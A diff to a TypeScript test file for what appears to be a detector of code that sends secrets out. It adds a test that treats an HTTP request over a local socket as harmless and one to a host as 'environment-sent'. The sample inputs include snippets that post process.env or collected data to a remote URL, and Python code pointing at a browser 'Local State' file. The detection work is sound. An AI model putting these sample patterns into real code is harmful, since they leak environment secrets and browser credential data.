@@ -185,6 +185,13 @@ test('what a declaration names next is no part of what it named before', () => {
   assert.deepEqual(script(`let url="https://acme.io/v",kept=${all};fetch(url, { body: kept });`), ['environment-sent']);
 });
 
+test('what is told to another program of the same machine does not leave it', () => {
+  const ask = (where: string): readonly string[] =>
+    script(`const kept = JSON.stringify(process.env);\nhttp.request({ ${where}, headers: { kept } });`);
+  assert.deepEqual(ask('socketPath'), []);
+  assert.deepEqual(ask('host'), ['environment-sent']);
+});
+
 test('one step in several lines of a file is one step', async () => {
   const apart = '\n#\n'.repeat(400);
   const states = Array.from({ length: 6 }, (_, n) => `def state${n}(root):\n    return root / "Local State"\n${apart}`);
